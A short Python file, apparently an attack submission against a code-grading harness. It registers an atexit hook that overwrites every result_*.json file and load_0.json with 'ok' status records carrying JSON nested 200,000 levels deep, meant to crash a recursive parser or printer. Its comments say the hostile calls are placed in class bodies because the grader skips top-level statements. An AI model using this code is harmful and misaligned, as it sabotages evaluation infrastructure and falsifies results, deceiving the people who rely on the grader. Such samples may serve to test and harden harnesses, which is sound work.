"""After the worker answers (atexit), rewrites every record as JSON nested 200,000 deep (and the
load record too), which a recursive parser or printer cannot handle."""

import atexit
import contextlib
import glob


def _attack():
    global DEEP
    DEEP = "[" * 200_000 + "]" * 200_000


class _Armed:  # top-level statements are skipped by the grader; a class body runs
    _attack()


def swap():
    for path in glob.glob("result_*.json"):
        index = path[len("result_") : -len(".json")]
        with contextlib.suppress(OSError), open(path, "w") as handle:
            handle.write(f'{{"protocol": 2, "index": {index}, "status": "ok", "facts": {DEEP}}}')
    with contextlib.suppress(OSError), open("load_0.json", "w") as handle:
        handle.write('{"cell_errors": ' + DEEP + "}")


def _attack1():
    atexit.register(swap)


class _Armed1:  # top-level statements are skipped by the grader; a class body runs
    _attack1()
